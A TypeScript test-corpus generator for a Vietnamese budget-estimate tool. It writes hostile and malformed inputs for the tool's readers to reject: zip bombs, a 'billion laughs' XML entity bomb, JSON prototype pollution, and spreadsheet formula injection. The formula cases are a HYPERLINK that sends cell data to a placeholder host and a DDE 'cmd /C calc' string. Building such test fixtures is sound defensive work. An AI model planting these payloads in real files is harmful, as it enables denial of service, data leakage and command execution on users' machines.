// Builds test/fixtures/bad/: hostile or broken inputs, each with the entry point it is fed to and the message
// (fragment) and code it must produce, in test/fixtures/bad/expected.json. The generated files are committed;
// run again after changing a case: node packages/cli/bin/run-ts.js scripts/make-bad-corpus.ts
//
// Every expectation is reasoned from the case itself (what the file is, which rule it breaks), not copied
// from a run. Files that need LibreOffice (.xls, .ods, .docx) are converted with it when it is installed and
// otherwise kept as committed.
//
// Entry points (the "entry" field):
//   compute  — `dutoan compute FILE --book mau-2026` (JSON estimate input)
//   book     — `dutoan compute examples/xa-bao-ha.json --book FILE` (JSON price book)
//   xlsx     — every workbook reader: auditWorkbook, and readEstimateWorkbook / the price-sheet import when
//              they exist; limit and format errors must be the same DutoanError from all of them
//   audit    — auditWorkbook: a readable workbook whose content is wrong → the listed finding codes
// "via": "cli" runs the real command (exit code 2, message on stderr, no stack trace); "lib" calls the library.
import ExcelJS from 'exceljs';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { builtinBooks } from '@dutoan/core';
import { buildHandMadeWorkbook } from '../test/fixtures/hand-made/make-hand-made.ts';
import { buildZip, minimalWorkbookParts, sheetXml } from '../test/support/zip-builder.ts';
import type { CorpusCase } from '../test/support/corpus-case.ts';

const dir = new URL('../test/fixtures/bad/', import.meta.url).pathname;
mkdirSync(dir, { recursive: true });


const cases: CorpusCase[] = [];
const enc = new TextEncoder();
function put(c: CorpusCase, data: Uint8Array | string): void {
  writeFileSync(join(dir, c.file), typeof data === 'string' ? enc.encode(data) : data);
  cases.push(c);
}

// ---------------------------------------------------------------- workbooks: bytes that are not a usable xlsx
const clean = await buildHandMadeWorkbook({ clean: true });
const validParts = () => minimalWorkbookParts(sheetXml([['STT', 'Nội dung công việc'], [1, 'Số hóa']]));

put({ file: 'empty.xlsx', entry: 'xlsx', via: 'cli', what: '0 byte', code: 'FILE_EMPTY', message: 'rỗng (0 byte)' }, new Uint8Array(0));
put(
  { file: 'truncated-half.xlsx', entry: 'xlsx', via: 'cli', what: 'a real workbook cut in half (interrupted download)', code: 'FILE_TRUNCATED', message: 'không trọn vẹn' },
  clean.subarray(0, Math.floor(clean.length / 2)),
);
put(
  { file: 'truncated-tail.xlsx', entry: 'xlsx', via: 'lib', what: 'the last 40 bytes missing: the end of central directory is gone', code: 'FILE_TRUNCATED', message: 'không trọn vẹn' },
  clean.subarray(0, clean.length - 40),
);
put(
  { file: 'csv-renamed.xlsx', entry: 'xlsx', via: 'cli', what: 'a CSV export renamed to .xlsx', code: 'FILE_NOT_XLSX', message: 'tệp văn bản hoặc CSV' },
  'STT,Nội dung công việc,Đơn vị tính,Khối lượng,Đơn giá,Thành tiền\n1,Số hóa tài liệu,Trang,"1,234.5",1111,1371530\n',
);
put(
  { file: 'html-renamed.xls', entry: 'xlsx', via: 'lib', what: 'an HTML table saved as .xls by a web application', code: 'FILE_NOT_XLSX', message: 'trang HTML' },
  '<html><head><meta charset="utf-8"></head><body><table><tr><td>STT</td><td>Nội dung</td></tr></table></body></html>',
);
put(
  { file: 'pdf-renamed.xlsx', entry: 'xlsx', via: 'lib', what: 'a scanned PDF renamed to .xlsx', code: 'FILE_NOT_XLSX', message: 'tệp PDF' },
  '%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
);
put(
  {
    file: 'xml-spreadsheet-2003.xml',
    entry: 'xlsx',
    via: 'lib',
    what: 'Excel "XML Spreadsheet 2003" (older accounting software exports it)',
    code: 'FILE_NOT_XLSX',
    message: 'XML Spreadsheet 2003',
  },
  '<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Dự toán"/></Workbook>\n',
);

/**
 * A minimal OLE2 compound file (MS-CFB v3, 512-byte sectors) with the given streams — what Excel writes for a
 * workbook with a password to open (streams EncryptionInfo + EncryptedPackage). Streams ≥ 4096 bytes so they
 * live in regular sectors (no mini stream).
 */
function compoundFile(streams: Array<{ name: string; data: Uint8Array }>): Uint8Array {
  const S = 512;
  const sectorsOf = (n: number) => Math.ceil(n / S);
  const dataSectors = streams.map((s) => sectorsOf(Math.max(4096, s.data.length)));
  const total = 2 + dataSectors.reduce((a, b) => a + b, 0); // FAT, directory, data
  const out = new Uint8Array(S * (1 + total));
  const dv = new DataView(out.buffer);
  out.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  dv.setUint16(24, 0x3e, true);
  dv.setUint16(26, 3, true);
  dv.setUint16(28, 0xfffe, true);
  dv.setUint16(30, 9, true);
  dv.setUint16(32, 6, true);
  dv.setUint32(44, 1, true); // one FAT sector
  dv.setUint32(48, 1, true); // directory at sector 1
  dv.setUint32(56, 4096, true);
  dv.setUint32(60, 0xfffffffe, true);
  dv.setUint32(68, 0xfffffffe, true);
  for (let i = 0; i < 109; i++) dv.setUint32(76 + 4 * i, i === 0 ? 0 : 0xffffffff, true);
  const sec = (n: number) => S * (1 + n);
  // FAT
  for (let i = 0; i < S / 4; i++) dv.setUint32(sec(0) + 4 * i, 0xffffffff, true);
  dv.setUint32(sec(0), 0xfffffffd, true);
  dv.setUint32(sec(0) + 4, 0xfffffffe, true);
  let next = 2;
  const starts: number[] = [];
  dataSectors.forEach((n, k) => {
    starts.push(next);
    for (let i = 0; i < n; i++) dv.setUint32(sec(0) + 4 * (next + i), i === n - 1 ? 0xfffffffe : next + i + 1, true);
    out.set(streams[k]!.data, sec(next));
    next += n;
  });
  // Directory: root, then the streams as a right-leaning chain (sorted by length, then name, as CFB requires).
  const entry = (i: number, name: string, type: number, child: number, right: number, start: number, size: number) => {
    const o = sec(1) + 128 * i;
    for (let k = 0; k < name.length; k++) dv.setUint16(o + 2 * k, name.charCodeAt(k), true);
    dv.setUint16(o + 64, 2 * (name.length + 1), true);
    out[o + 66] = type;
    out[o + 67] = 1;
    dv.setUint32(o + 68, 0xffffffff, true);
    dv.setUint32(o + 72, right, true);
    dv.setUint32(o + 76, child, true);
    dv.setUint32(o + 116, start, true);
    dv.setUint32(o + 120, size, true);
  };
  entry(0, 'Root Entry', 5, 1, 0xffffffff, 0xfffffffe, 0);
  streams.forEach((s, k) => entry(k + 1, s.name, 2, 0xffffffff, k + 1 < streams.length ? k + 2 : 0xffffffff, starts[k]!, s.data.length));
  return out;
}
{
  // EncryptionInfo for agile encryption starts with version 4.4 and flags 0x40, then an XML descriptor.
  const info = new Uint8Array(4096);
  info.set([4, 0, 4, 0, 0x40, 0, 0, 0]);
  info.set(enc.encode('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512"/></encryption>'), 8);
  const pkg = new Uint8Array(8192);
  for (let i = 0; i < pkg.length; i++) pkg[i] = (i * 131 + 7) & 0xff; // stands for ciphertext
  put(
    { file: 'password-protected.xlsx', entry: 'xlsx', via: 'cli', what: 'a workbook with a password to open (OLE2 EncryptionInfo + EncryptedPackage)', code: 'FILE_ENCRYPTED', message: 'đặt mật khẩu' },
    compoundFile([{ name: 'EncryptionInfo', data: info }, { name: 'EncryptedPackage', data: pkg }]),
  );
}

/** LibreOffice conversions of a small CSV/text into the formats users really send by mistake. */
function viaLibreOffice(outName: string, filter: string, source: { name: string; text: string }): boolean {
  const target = join(dir, outName);
  let soffice = false;
  try {
    execFileSync('soffice', ['--version'], { stdio: 'ignore' });
    soffice = true;
  } catch {
    /* not installed: keep the committed file */
  }
  if (!soffice) return existsSync(target);
  const work = mkdtempSync(join(tmpdir(), 'dutoan-corpus-'));
  try {
    writeFileSync(join(work, source.name), source.text);
    execFileSync('soffice', [`-env:UserInstallation=file://${work}/profile`, '--headless', '--convert-to', filter, '--outdir', work, join(work, source.name)], { stdio: 'ignore', timeout: 120_000 });
    const produced = join(work, source.name.replace(/\.[^.]+$/, '') + '.' + filter.split(':')[0]);
    writeFileSync(target, readFileSync(produced));
    return true;
  } finally {
    rmSync(work, { recursive: true, force: true });
  }
}
const csv = { name: 'du-toan.csv', text: 'STT,Nội dung công việc,Khối lượng\n1,Số hóa tài liệu,1000\n' };
if (viaLibreOffice('legacy-97-2003.xls', 'xls', csv)) {
  cases.push({ file: 'legacy-97-2003.xls', entry: 'xlsx', via: 'cli', what: 'a real Excel 97–2003 .xls (written by LibreOffice)', code: 'FILE_LEGACY_XLS', message: 'Excel 97–2003 (.xls)' });
}
if (viaLibreOffice('opendocument.ods', 'ods', csv)) {
  cases.push({ file: 'opendocument.ods', entry: 'xlsx', via: 'lib', what: 'a real LibreOffice .ods spreadsheet', code: 'FILE_NOT_XLSX', message: 'OpenDocument .ods' });
}
// Only LibreOffice Calc is installed here (no Writer): the Word document is built part by part.
put(
  { file: 'word-document.xlsx', entry: 'xlsx', via: 'lib', what: 'a Word .docx (tờ trình) renamed to .xlsx', code: 'FILE_NOT_XLSX', message: 'tài liệu Word' },
  buildZip([
    {
      name: '[Content_Types].xml',
      data: '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    },
    { name: '_rels/.rels', data: '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>' },
    { name: 'word/document.xml', data: '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Tờ trình dự toán kinh phí số hóa tài liệu năm 2026</w:t></w:r></w:p></w:body></w:document>' },
  ]),
);

// ---------------------------------------------------------------- workbooks: hostile zip packages
const zeros = (n: number) => new Uint8Array(n);
put(
  { file: 'zip-bomb-ratio.xlsx', entry: 'xlsx', via: 'cli', what: 'a valid workbook plus a 64 MB part of zeros (≈1000:1, limit 200:1)', code: 'ZIP_BOMB', message: 'bom nén' },
  buildZip([...validParts(), { name: 'xl/media/image1.png', data: zeros(64 * 1024 * 1024) }]),
);
put(
  {
    file: 'zip-bomb-lying-size.xlsx',
    entry: 'xlsx',
    via: 'lib',
    what: 'a 64 MB part of zeros whose directory claims 2 KB (ratio check defeated; only capped inflation sees it)',
    code: 'ZIP_BOMB',
    message: 'nhiều hơn kích thước khai báo',
  },
  buildZip([...validParts(), { name: 'xl/media/image1.png', data: zeros(64 * 1024 * 1024), declaredSize: 2048 }]),
);
put(
  { file: 'zip-declared-huge.xlsx', entry: 'xlsx', via: 'lib', what: 'a part declared as 300 MB (limit 200 MB in total)', code: 'ZIP_TOO_LARGE', message: 'khi giải nén chiếm 300 MB' },
  buildZip([...validParts(), { name: 'xl/media/image1.png', data: 'x', declaredSize: 300 * 1024 * 1024 }]),
);
{
  const parts = validParts();
  for (let i = 0; i < 150; i++) parts.push({ name: `xl/media/i${i}.png`, data: '', method: 0 });
  put(
    {
      file: 'zip-many-entries.xlsx',
      entry: 'xlsx',
      via: 'cli',
      what: '155 zip entries with the entry limit lowered to 100 by DUTOAN_MAX_ZIP_ENTRIES (the limit is configurable)',
      code: 'ZIP_TOO_MANY_ENTRIES',
      message: 'chứa 155 phần nén (giới hạn 100)',
      env: { DUTOAN_MAX_ZIP_ENTRIES: '100' },
    },
    buildZip(parts),
  );
}
put(
  { file: 'zip-encrypted-entries.xlsx', entry: 'xlsx', via: 'lib', what: 'zip entries flagged as encrypted (ZipCrypto)', code: 'FILE_ENCRYPTED', message: 'nén kèm mật khẩu' },
  buildZip(validParts().map((p) => ({ ...p, flags: 1 }))),
);
put(
  { file: 'zip-lzma-method.xlsx', entry: 'xlsx', via: 'lib', what: 'a part compressed with method 14 (LZMA), which no xlsx reader supports', code: 'FILE_NOT_XLSX', message: 'mã 14' },
  buildZip(validParts().map((p, i) => (i === 4 ? { ...p, method: 14 } : p))),
);
{
  // Damage the first central directory signature (PK\1\2 → PK\1\3).
  const b = buildZip(validParts()).slice();
  for (let i = b.length - 22; i > 0; i--) {
    if (b[i] === 0x50 && b[i + 1] === 0x4b && b[i + 2] === 1 && b[i + 3] === 2) {
      let first = i;
      for (let j = i - 1; j > 0; j--) if (b[j] === 0x50 && b[j + 1] === 0x4b && b[j + 2] === 1 && b[j + 3] === 2) first = j;
      b[first + 3] = 3;
      break;
    }
  }
  put({ file: 'zip-damaged-directory.xlsx', entry: 'xlsx', via: 'lib', what: 'central directory signature overwritten', code: 'FILE_DAMAGED', message: 'bị hỏng' }, b);
}
{
  // A deflate stream that is not deflate: the declared sizes are fine, the bytes are garbage.
  const parts = buildZip(validParts());
  const b = parts.slice();
  const dataStart = 30 + '[Content_Types].xml'.length;
  for (let i = dataStart; i < dataStart + 40; i++) b[i] = 0xff;
  put({ file: 'zip-corrupt-deflate.xlsx', entry: 'xlsx', via: 'lib', what: 'first part\'s compressed bytes overwritten with 0xFF', code: 'FILE_DAMAGED', message: 'không giải nén được' }, b);
}
put(
  { file: 'zip-plain-archive.xlsx', entry: 'xlsx', via: 'lib', what: 'an ordinary zip of scans renamed to .xlsx (no xl/workbook.xml)', code: 'FILE_NOT_XLSX', message: 'tệp nén .zip thông thường' },
  buildZip([{ name: 'scan/trang-001.jpg', data: new Uint8Array(2000).fill(7) }, { name: 'scan/trang-002.jpg', data: new Uint8Array(2000).fill(9) }]),
);
put(
  {
    file: 'huge-shared-strings.xlsx',
    entry: 'xlsx',
    via: 'lib',
    what: 'sharedStrings.xml holding one 80 MB string (compresses ≈1000:1)',
    code: 'ZIP_BOMB',
    message: 'xl/sharedStrings.xml',
  },
  buildZip(
    minimalWorkbookParts(
      sheetXml([['STT']]).replace('<c r="A1" t="inlineStr"><is><t>STT</t></is></c>', '<c r="A1" t="s"><v>0</v></c>'),
      `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>${'A'.repeat(80 * 1024 * 1024)}</t></si></sst>`,
    ),
  ),
);
{
  // 30,000 distinct shared strings: ≈1.3 MB of XML, ratio far below 200 — caught only by the total limit,
  // lowered here to 1 MB to keep the file small.
  const si = Array.from({ length: 30_000 }, (_, i) => `<si><t>Hồ sơ số ${i * 7919}</t></si>`).join('');
  put(
    {
      file: 'many-shared-strings.xlsx',
      entry: 'xlsx',
      via: 'cli',
      what: '30,000 distinct shared strings (≈1.3 MB XML) with DUTOAN_MAX_UNCOMPRESSED_MB=1',
      code: 'ZIP_TOO_LARGE',
      message: 'giới hạn 1 MB',
      env: { DUTOAN_MAX_UNCOMPRESSED_MB: '1' },
    },
    buildZip(minimalWorkbookParts(sheetXml([['STT']]), `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="30000" uniqueCount="30000">${si}</sst>`)),
  );
}
put(
  {
    file: 'far-column.xlsx',
    entry: 'xlsx',
    via: 'lib',
    what: 'one value in column XFD (16,384) — beyond the 1,000-column limit, checked after loading',
    code: 'SHEET_TOO_MANY_COLUMNS',
    message: 'cột thứ 16.384',
  },
  buildZip(
    minimalWorkbookParts(
      '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>STT</t></is></c><c r="XFD1"><v>1</v></c></row></sheetData></worksheet>',
    ),
  ),
);
{
  const rows = Array.from({ length: 60 }, (_, i) => [i + 1, `Dòng ${i + 1}`]);
  put(
    { file: 'too-many-rows.xlsx', entry: 'xlsx', via: 'cli', what: '60 rows with DUTOAN_MAX_ROWS=50', code: 'SHEET_TOO_MANY_ROWS', message: 'dữ liệu trải tới dòng 60 (giới hạn 50 dòng)', env: { DUTOAN_MAX_ROWS: '50' } },
    buildZip(minimalWorkbookParts(sheetXml(rows))),
  );
}
put(
  { file: 'over-size-limit.xlsx', entry: 'xlsx', via: 'cli', what: 'a valid workbook above DUTOAN_MAX_FILE_MB=0.001 (1 KB)', code: 'FILE_TOO_LARGE', message: 'quá lớn', env: { DUTOAN_MAX_FILE_MB: '0.001' } },
  clean,
);
{
  // Malformed XML inside a valid package: the byte layer's scanner finds the unclosed elements.
  const parts = minimalWorkbookParts('<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>STT</t></is></c>');
  // Each reader has its own "unreadable" code (audit: WORKBOOK_UNREADABLE; standard-workbook reader: TEMPLATE_UNREADABLE finding).
  put(
    {
      file: 'malformed-sheet-xml.xlsx',
      entry: 'audit',
      via: 'lib',
      what: 'sheet1.xml cut in the middle of a row (unclosed elements)',
      code: 'WORKBOOK_UNREADABLE',
      message: 'không mở được: nội dung XML bên trong gói .xlsx bị hỏng',
    },
    buildZip(parts),
  );
}
{
  // "Billion laughs": nested internal entities. A reader that expands them allocates gigabytes.
  const dtd = '<!DOCTYPE worksheet [<!ENTITY a "hahahahahahahahahahahaha">' + Array.from({ length: 9 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join('') + ']>';
  const xml = `<?xml version="1.0"?>${dtd}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&j;</t></is></c></row></sheetData></worksheet>`;
  put(
    {
      file: 'billion-laughs.xlsx',
      entry: 'xlsx',
      via: 'lib',
      what: 'sheet XML with nested entity definitions (billion laughs); refused before any XML parser sees it',
      code: 'XML_DTD',
      message: 'bom XML',
    },
    buildZip(minimalWorkbookParts(xml)),
  );
}
{
  // workbook.xml names a sheet whose part is missing from the package.
  const parts = validParts().filter((p) => p.name !== 'xl/worksheets/sheet1.xml');
  // exceljs skips the missing part and loads a workbook with no sheet: there is no table to read.
  put({ file: 'missing-sheet-part.xlsx', entry: 'audit', via: 'lib', what: 'workbook.xml lists a sheet whose XML part is missing', code: 'TABLE_NOT_FOUND', message: 'bảng dự toán' }, buildZip(parts));
}

// ---------------------------------------------------------------- workbooks: readable, wrong content (audit)
/** Load the clean hand-made estimate (0 findings; figures in test/fixtures/hand-made/make-hand-made.ts) and change it. */
async function mutateClean(change: (ws: ExcelJS.Worksheet) => void): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(clean as unknown as ArrayBuffer);
  change(wb.getWorksheet('DT2026')!);
  return new Uint8Array(await wb.xlsx.writeBuffer());
}
put(
  {
    file: 'circular-formulas.xlsx',
    entry: 'audit',
    via: 'lib',
    what: 'F18 (Cộng phần I) = F20−F19 while F20 = F18+F19: a circular reference, saved with cached 0 as Excel does',
    code: null,
    // Section I lines: 236.643.000 + 37.774.000 = 274.417.000 expected at F18, 0 read.
    findings: ['SUBTOTAL@DT2026!F18'],
  },
  await mutateClean((ws) => {
    ws.getCell('F18').value = { formula: 'F20-F19', result: 0 };
  }),
);
put(
  {
    file: 'merged-over-table.xlsx',
    entry: 'audit',
    via: 'lib',
    what: 'cells A11:G41 merged into one: the header row and every line disappear under the merge',
    code: 'TABLE_NOT_FOUND',
    message: 'bảng dự toán',
  },
  await mutateClean((ws) => {
    ws.mergeCells('A11:G41');
  }),
);
put(
  {
    file: 'date-in-quantity.xlsx',
    entry: 'audit',
    via: 'lib',
    what: 'D24 (khối lượng SH.A4) holds the date 2026-04-10 instead of 150.000',
    code: null,
    findings: ['NOT_A_NUMBER@DT2026!D24'],
  },
  await mutateClean((ws) => {
    ws.getCell('D24').value = new Date(Date.UTC(2026, 3, 10));
    ws.getCell('D24').numFmt = 'dd/mm/yyyy';
  }),
);
put(
  {
    file: 'english-decimal-text.xlsx',
    entry: 'audit',
    via: 'lib',
    what: 'D15 typed as text "1,234.5" (English separators) where Vietnamese writes 1.234,5: read as 1.234,5 with a warning saying so',
    code: null,
    findings: ['NUMBER_FORMAT@DT2026!D15'],
  },
  await mutateClean((ws) => {
    ws.getCell('D15').value = '1,234.5';
  }),
);
put(
  {
    file: 'huge-quantity.xlsx',
    entry: 'audit',
    via: 'lib',
    what: 'D24 = 10^20 pages; F24 keeps 166.650.000: the amount no longer equals quantity × price',
    code: null,
    findings: ['ARITHMETIC@DT2026!F24'],
  },
  await mutateClean((ws) => {
    ws.getCell('D24').value = 1e20;
  }),
);
put(
  {
    file: 'text-in-amount.xlsx',
    entry: 'audit',
    via: 'lib',
    what: 'F25 holds the words "năm triệu" instead of a number',
    code: null,
    findings: ['NOT_A_NUMBER@DT2026!F25'],
  },
  await mutateClean((ws) => {
    ws.getCell('F25').value = 'năm triệu';
  }),
);
put(
  {
    file: 'error-values.xlsx',
    entry: 'audit',
    via: 'lib',
    what: 'F24 a formula whose cached result is #REF! (a deleted row)',
    code: null,
    findings: ['NOT_A_NUMBER@DT2026!F24'],
  },
  await mutateClean((ws) => {
    ws.getCell('F24').value = { formula: '#REF!*E24', result: { error: '#REF!' } } as ExcelJS.CellFormulaValue;
  }),
);
put(
  {
    file: 'formula-injection-text.xlsx',
    entry: 'audit',
    via: 'lib',
    what: 'agency name and a note are formula-like text ("=HYPERLINK(…)", "@SUM(…)"): read as text, the rest audits cleanly',
    code: null,
    findings: [],
  },
  await mutateClean((ws) => {
    ws.getCell('A2').value = '=HYPERLINK("http://x.invalid/?q="&A1,"SỞ TƯ PHÁP")';
    ws.getCell('G15').value = '@SUM(1+1)*cmd|" /C calc"!A0';
  }),
);
put(
  { file: 'no-table.xlsx', entry: 'audit', via: 'cli', what: 'a valid workbook holding a list of staff, no estimate table', code: 'TABLE_NOT_FOUND', message: 'bảng dự toán' },
  buildZip(minimalWorkbookParts(sheetXml([['Họ và tên', 'Chức vụ'], ['Nguyễn Văn A', 'Lưu trữ viên'], ['Trần Thị B', 'Kế toán']]))),
);

// ---------------------------------------------------------------- JSON estimate inputs (compute)
const example = readFileSync(new URL('../examples/xa-bao-ha.json', import.meta.url), 'utf8');
const exampleJson = JSON.parse(example) as Record<string, unknown> & { sections: Array<{ lines: Array<Record<string, unknown>> }> };
const withQuantity = (q: string) => example.replace('"quantity": "39.500"', `"quantity": ${q}`);
if (!example.includes('"quantity": "39.500"')) throw new Error('examples/xa-bao-ha.json changed: update the corpus script');

put({ file: 'nan-literal.json', entry: 'compute', via: 'cli', what: 'quantity written as NaN (not JSON)', code: 'INVALID_JSON', message: 'không phải JSON hợp lệ' }, withQuantity('NaN'));
put({ file: 'infinity-literal.json', entry: 'compute', via: 'lib', what: 'quantity written as Infinity (not JSON)', code: 'INVALID_JSON', message: 'không phải JSON hợp lệ' }, withQuantity('Infinity'));
put({ file: 'nan-string.json', entry: 'compute', via: 'lib', what: 'quantity "NaN" as a string', code: 'INVALID_INPUT', message: '"NaN" không phải là số' }, withQuantity('"NaN"'));
put({ file: 'infinity-string.json', entry: 'compute', via: 'lib', what: 'quantity "Infinity" as a string', code: 'INVALID_INPUT', message: '"Infinity" không phải là số' }, withQuantity('"Infinity"'));
put({ file: 'number-overflow.json', entry: 'compute', via: 'cli', what: 'quantity 1e400: JSON.parse makes it Infinity', code: 'INVALID_INPUT', message: '"Infinity" không phải là số' }, withQuantity('1e400'));
put({ file: 'quantity-1e20.json', entry: 'compute', via: 'cli', what: 'quantity 10^20 pages (limit 10^12)', code: 'INVALID_INPUT', message: 'quá lớn' }, withQuantity('"100000000000000000000"'));
put({ file: 'english-number.json', entry: 'compute', via: 'lib', what: 'quantity "1,234.5" (English separators)', code: 'INVALID_INPUT', message: 'không rõ cách ghi số' }, withQuantity('"1,234.5"'));
put({ file: 'date-as-quantity.json', entry: 'compute', via: 'lib', what: 'quantity "10/04/2026" (a date)', code: 'INVALID_INPUT', message: '"10/04/2026" không phải là số' }, withQuantity('"10/04/2026"'));
put({ file: 'negative-quantity.json', entry: 'compute', via: 'lib', what: 'quantity -500', code: 'INVALID_INPUT', message: 'không được là số âm' }, withQuantity('-500'));
put({ file: 'type-swap.json', entry: 'compute', via: 'lib', what: 'sections is a string, header a number', code: 'INVALID_INPUT', message: 'sections' }, JSON.stringify({ ...exampleJson, sections: 'I, II, III', header: 42 }));
put({ file: 'truncated.json', entry: 'compute', via: 'cli', what: 'the file cut in the middle', code: 'INVALID_JSON', message: 'không phải JSON hợp lệ' }, example.slice(0, Math.floor(example.length / 2)));
put({ file: 'empty.json', entry: 'compute', via: 'lib', what: '0 byte', code: 'INVALID_JSON', message: 'không phải JSON hợp lệ' }, '');
{
  const bom = new Uint8Array([0xff, 0xfe, ...Array.from(example.slice(0, 200)).flatMap((ch) => [ch.charCodeAt(0) & 0xff, ch.charCodeAt(0) >> 8])]);
  put({ file: 'utf16-encoded.json', entry: 'compute', via: 'lib', what: 'saved as UTF-16 by Notepad', code: 'INVALID_JSON', message: 'không phải JSON hợp lệ' }, bom);
}
put(
  { file: 'deep-nesting.json', entry: 'compute', via: 'cli', what: 'header nested 20,000 arrays deep', code: 'INVALID_INPUT', message: 'header' },
  `{"schemaVersion":1,"header":${'['.repeat(20_000)}${']'.repeat(20_000)},"sections":[]}`,
);
put(
  {
    file: 'proto-pollution.json',
    entry: 'compute',
    via: 'lib',
    what: '"__proto__" and "constructor" keys carrying a bad quantity: must not pollute Object.prototype; the real error is still found',
    code: 'INVALID_INPUT',
    message: 'không phải là số',
  },
  withQuantity('"abc"').replace('"schemaVersion": 1,', '"schemaVersion": 1, "__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}},'),
);
put(
  { file: 'over-size-limit.json', entry: 'compute', via: 'cli', what: 'a valid input above DUTOAN_MAX_FILE_MB=0.001', code: 'FILE_TOO_LARGE', message: 'quá lớn', env: { DUTOAN_MAX_FILE_MB: '0.001' } },
  example,
);
put(
  { file: 'unknown-item.json', entry: 'compute', via: 'lib', what: 'an item code the book does not have', code: 'ITEM_UNKNOWN', message: 'không có hạng mục mã XX.999' },
  example.replace('"item": "SH.A3"', '"item": "XX.999"'),
);

put(
  {
    file: 'total-overflow.json',
    entry: 'compute',
    via: 'cli',
    what: 'each quantity within its limit (999.999.999.999 m < 10^12) but 10^12 × 8.888.000 đ ≈ 8,9·10^18 đ ≥ the 10^18 ceiling',
    code: 'TOTAL_TOO_LARGE',
    message: 'vượt quá giới hạn tính toán',
  },
  example.replace('"item": "CL.RL", "quantity": "20"', '"item": "CL.RL", "quantity": "999.999.999.999"'),
);

// ---------------------------------------------------------------- JSON price books (book)
const bookJson = JSON.stringify(builtinBooks['mau-2026'], null, 2);
const bookWith = (f: (b: { items: Array<Record<string, unknown>> } & Record<string, unknown>) => void) => {
  const b = JSON.parse(bookJson);
  f(b);
  return JSON.stringify(b, null, 2);
};
put({ file: 'book-nan-price.json', entry: 'book', via: 'cli', what: 'a price "NaN"', code: 'INVALID_INPUT', message: 'không phải là số' }, bookWith((b) => (b.items[0]!.price = 'NaN')));
put({ file: 'book-price-1e20.json', entry: 'book', via: 'lib', what: 'a price of 10^20 đồng (limit 10^15)', code: 'INVALID_INPUT', message: 'quá lớn' }, bookWith((b) => (b.items[0]!.price = '100000000000000000000')));
put({ file: 'book-fraction-price.json', entry: 'book', via: 'lib', what: 'a price with a decimal part', code: 'INVALID_INPUT', message: 'nguyên đồng' }, bookWith((b) => (b.items[0]!.price = '1234,5')));
put({ file: 'book-duplicate-item.json', entry: 'book', via: 'lib', what: 'the same item code twice', code: 'INVALID_INPUT', message: 'Mã CL.RL bị trùng' }, bookWith((b) => b.items.push({ ...b.items[0]! })));
put({ file: 'book-no-items.json', entry: 'book', via: 'lib', what: 'items is an object', code: 'INVALID_INPUT', message: 'items' }, bookWith((b) => (b.items = { a: 1 } as never)));

// ---------------------------------------------------------------- manifest
cases.sort((a, b) => a.file.localeCompare(b.file));
writeFileSync(join(dir, 'expected.json'), JSON.stringify({ note: 'Generated by scripts/make-bad-corpus.ts — see the case list there.', cases }, null, 2) + '\n');
console.log(`Đã ghi ${cases.length} tệp hỏng/độc hại vào ${dir}`);
